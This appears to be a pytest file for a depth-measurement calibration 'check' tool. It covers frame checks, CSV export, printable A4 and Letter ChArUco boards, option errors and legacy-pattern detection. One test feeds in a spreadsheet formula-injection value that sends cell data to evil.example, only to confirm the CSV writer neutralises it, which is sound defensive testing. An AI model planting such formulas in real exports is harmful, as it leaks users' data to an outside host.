"""What the check gives besides its summary: the call a service makes on frames it holds (report and
picture, no command line), the per-pair CSV read back with formula cells neutralised, the A4 and US
Letter boards, and the board options a person can get wrong."""

from __future__ import annotations

import csv
import json
import struct

import cv2
import numpy as np
import pytest
from typer.testing import CliRunner

from check.boards import PAPERS_MM, PRINTER_MARGIN_MM, paper_board
from check.errors import CheckError
from check.pairs_csv import COLUMNS, write_pairs_csv
from check.run import check_frames, report, run_check
from cli.board import PAPERS
from cli.main import app
from device import open_source
from device.calibration.board import BoardSpec

runner = CliRunner()
W, H = 960, 540
BOARD = BoardSpec(7, 5, 0.04, 0.03, "DICT_5X5_100")
SPEC = f"sim:charuco?distance=1&squares=7x5&square_mm=40&marker_mm=30&fps=0&width={W}&height={H}"
BOARD_ARGS = ["--squares", "7x5", "--square-mm", "40", "--marker-mm", "30"]


@pytest.fixture(scope="module")
def frames():
    with open_source(SPEC) as src:
        return [src.read() for _ in range(2)]


@pytest.mark.slow
def test_the_check_runs_on_frames_a_caller_holds(frames):
    done = check_frames(frames, BOARD, title="from the page")
    assert done.report == report(run_check(frames, BOARD))  # the same check as the command's
    assert done.report["figures"]["pairs"] == len(done.result.pairs) == 2 * 150 and done.frame is frames[0]
    assert done.png[:8] == b"\x89PNG\r\n\x1a\n"
    picture = cv2.imdecode(np.frombuffer(done.png, np.uint8), cv2.IMREAD_COLOR)
    assert picture.shape == (840, 1500, 3) and picture.std() > 10  # drawn, not blank
    assert check_frames(frames[:1], BOARD, picture=False).png is None
    with pytest.raises(CheckError, match="no frame"):
        check_frames([], BOARD)
    with open_source(f"sim:poster?distance=3&fps=0&width={W}&height={H}") as src:
        with pytest.raises(CheckError, match="show the whole board"):
            check_frames([src.read()], BOARD)


def test_pairs_csv_reads_back_with_formula_cells_neutralised(frames, tmp_path):
    result = run_check(frames[:1], BOARD)
    path = write_pairs_csv(tmp_path / "pairs.csv", '=HYPERLINK("http://evil.example/?x="&A1,"click")', result.pairs)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == COLUMNS and len(rows) == len(result.pairs) == 150
    for row, p in zip(rows, result.pairs):
        assert row["source"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        assert float(row["measured_mm"]) == 1000 * p.measured_m and float(row["error_pct"]) == p.error_pct  # exact
        assert (int(row["id1"]), int(row["id2"]), row["kind"]) == (p.pair.id1, p.pair.id2, p.pair.kind)
    assert {row["error_pct"][0] for row in rows} >= {"-"}  # negative errors stay numbers


@pytest.mark.slow
def test_cli_writes_the_pairs_of_a_bare_recording_folder(tmp_path, monkeypatch):
    """`check --source FOLDER` reads a recording as `replay:FOLDER` does; the folder's name is the CSV's source."""
    monkeypatch.chdir(tmp_path)
    rec = runner.invoke(app, ["record", "--source", SPEC, "--out", "@board", "--frames", "1"])
    assert rec.exit_code == 0, rec.output
    out = tmp_path / "report"
    res = runner.invoke(app, ["check", "--source", "@board", *BOARD_ARGS, "--out", str(out), "--no-history", "--json"])
    assert res.exit_code == 0, res.output
    record = json.loads(res.output.strip().splitlines()[-1])
    with (out / "pairs.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert record["pairs_csv"] == str(out / "pairs.csv") and len(rows) == record["figures"]["pairs"] == 150
    assert {r["source"] for r in rows} == {"'@board"}
    assert json.loads((out / "check.json").read_text())["figures"] == record["figures"]
    assert (out / "check.png").read_bytes()[:4] == b"\x89PNG"


def _png_size_mm(path) -> tuple[float, float]:
    """The printed size of a PNG (mm at 100 %) from its pixels and pHYs chunk."""
    data = path.read_bytes()
    w, h = struct.unpack(">II", data[16:24])
    i = data.index(b"pHYs")
    ppm_x, ppm_y, unit = struct.unpack(">IIB", data[i + 4 : i + 13])
    assert unit == 1
    return 1000 * w / ppm_x, 1000 * h / ppm_y


@pytest.mark.parametrize("paper", ["a4", "letter"])
def test_paper_boards_print_inside_their_paper(tmp_path, paper):
    png = tmp_path / f"{paper}.png"
    res = runner.invoke(app, ["calibrate", "--board-png", str(png), "--board", paper])
    assert res.exit_code == 0, res.output
    preset = paper_board(paper)
    w, h = _png_size_mm(png)
    page_w, page_h = PAPERS_MM[paper]
    room = (page_w - 2 * PRINTER_MARGIN_MM, page_h - 2 * PRINTER_MARGIN_MM)
    assert (w <= room[0] and h <= room[1]) or (w <= room[1] and h <= room[0]), (w, h, room)
    assert (w, h) == pytest.approx(preset.sheet_mm(), abs=0.2)
    square = preset.board.square_m * 1000
    assert square == int(square) >= 20 and f"squares of {square:g} mm" in res.output and f"fits {paper}" in res.output
    # the board as it prints: 11 x 8 squares of that size, as the calibration expects them
    image = cv2.imread(str(png), cv2.IMREAD_GRAYSCALE)
    det = cv2.aruco.CharucoDetector(preset.board.board()).detectBoard(image)
    assert det[1] is not None and len(det[1]) == preset.board.n_corners


def test_the_default_board_fits_neither_paper():
    """Why the presets: the default 11 x 8 x 30 mm board (350 x 260 mm with its margin) is larger than A4 and Letter."""
    default = BoardSpec()
    sheet = (default.squares_x * default.square_m * 1000 + 20, default.squares_y * default.square_m * 1000 + 20)
    assert all(max(sheet) > max(size) for size in PAPERS_MM.values())
    assert PAPERS == tuple(PAPERS_MM)  # the command line names every paper there is


@pytest.mark.slow
def test_check_against_an_a4_board(tmp_path):
    preset = paper_board("a4").board
    spec = (f"sim:charuco?distance=0.8&squares={preset.squares_x}x{preset.squares_y}&square_mm={preset.square_m * 1000:g}"
            f"&marker_mm={preset.marker_m * 1000:g}&fps=0&width={W}&height={H}")  # fmt: skip
    res = runner.invoke(app, ["check", "--source", spec, "--board", "a4", "--no-history", "--json"])
    assert res.exit_code == 0, res.output
    fig = json.loads(res.output.strip().splitlines()[-1])["figures"]
    assert fig["board"] == {"squares": "11x8", "square_mm": 23.0, "marker_mm": 17.0, "dictionary": "DICT_5X5_100",
                            "legacy": False, "legacy_found": False}
    assert fig["pairs"] > 300 and abs(fig["bias_pct"]) < 0.5


@pytest.mark.parametrize(
    "args, hint, fragment",
    [
        (["--square-mm", "-60"], "--square-mm", "-60 is not a length"),
        (["--square-mm", "nan"], "--square-mm", "nan is not a length"),
        (["--marker-mm", "0"], "--marker-mm", "0 is not a length"),
        (["--timeout", "-1"], "--timeout", "0.01"),
        (["--board", "a3"], "--board", "use one of a4, letter"),
        (["--board", "a4", "--square-mm", "20"], "--board", "leave out --square-mm"),
        (["--squares", "7by5"], "--squares", "COLSxROWS"),
    ],
)
def test_board_options_name_what_is_wrong(args, hint, fragment, tmp_path):
    res = runner.invoke(app, ["check", "--source", SPEC, *args, "--db", str(tmp_path / "d.db")])
    text = " ".join(res.output.replace("│", " ").split())
    assert res.exit_code == 2 and hint in text and fragment in text, text
    assert "marker side" not in text  # the marker is not blamed for a bad square


@pytest.mark.slow  # the interval's coverage over 200+ pairs through a real matcher, on 4 stereo frames: a study
def test_the_command_on_the_simulators_stereo_board_covers_and_flags_a_baseline_that_does_not():
    """`depthruler check --source sim:charuco?mode=stereo...` with no board options finds the scene's own board
    (as the doctor and the page do); its exact corners' truth falls inside the 95 % interval for 80-99 % of
    pairs through a real matcher, and a baseline 3 % long leaves most pairs outside, with the finding saying so."""
    spec = "sim:charuco?distance=1.5&mode=stereo&fps=0"
    res = runner.invoke(app, ["check", "--source", spec, "--frames", "2", "--no-history", "--json"])
    assert res.exit_code == 0, res.output
    rec = json.loads(res.stdout.strip().splitlines()[-1])
    fig = rec["figures"]
    assert fig["board"]["squares"] == "7x5" and fig["board"]["square_mm"] == pytest.approx(40.0) and fig["pairs"] >= 200
    assert 0.80 <= fig["interval_coverage"] <= 0.99 and abs(fig["bias_pct"]) < 0.5
    res = runner.invoke(app, ["check", "--source", spec + "&baseline_error=0.03", "--frames", "2", "--no-history", "--json"])
    wrong = json.loads(res.stdout.strip().splitlines()[-1])
    assert wrong["figures"]["interval_coverage"] < 0.6 and wrong["status"] != "ok"
    assert any("fell inside the reported 95 % interval" in f["measured"] for f in wrong["findings"])


def test_a_board_printed_in_the_legacy_pattern_is_checked_and_named(monkeypatch):
    """An 8x6 board (an even number of rows) printed in OpenCV's pattern before 4.6: its markers show but
    today's detector finds no corner. The check retries the legacy pattern by itself, measures the board's
    lengths, and says to pass --legacy."""
    import dataclasses

    import sim.charuco as sim_charuco

    def legacy_texture(board):
        sx, sy, square, marker, dictionary = board
        printed = BoardSpec(sx, sy, square, marker, dictionary).board()
        printed.setLegacyPattern(True)
        per_m = sim_charuco.TEXELS_PER_SQUARE / square
        w, h, margin = sim_charuco.charuco_sheet_m(board)
        img = printed.generateImage((round(w * per_m), round(h * per_m)), marginSize=round(margin * per_m), borderBits=1)
        return img.astype(np.float32) / 255.0, per_m

    monkeypatch.setattr(sim_charuco, "board_texture", legacy_texture)
    board = BoardSpec(8, 6, 0.03, 0.022, "DICT_5X5_100")
    with open_source(f"sim:charuco?distance=1&squares=8x6&square_mm=30&marker_mm=22&fps=0&width={W}&height={H}") as src:
        frame = src.read()
    _, ids, _, marker_ids = cv2.aruco.CharucoDetector(board.board()).detectBoard(frame.image)
    assert ids is None and len(marker_ids) >= 20  # markers, but no corner in today's pattern
    result = run_check([frame], board)
    rep = report(result)
    assert result.legacy_found and result.board == dataclasses.replace(board, legacy=True)
    assert rep["figures"]["pairs"] >= 100 and abs(rep["figures"]["bias_pct"]) < 1.0
    assert any("--legacy" in f["action"] for f in rep["findings"])
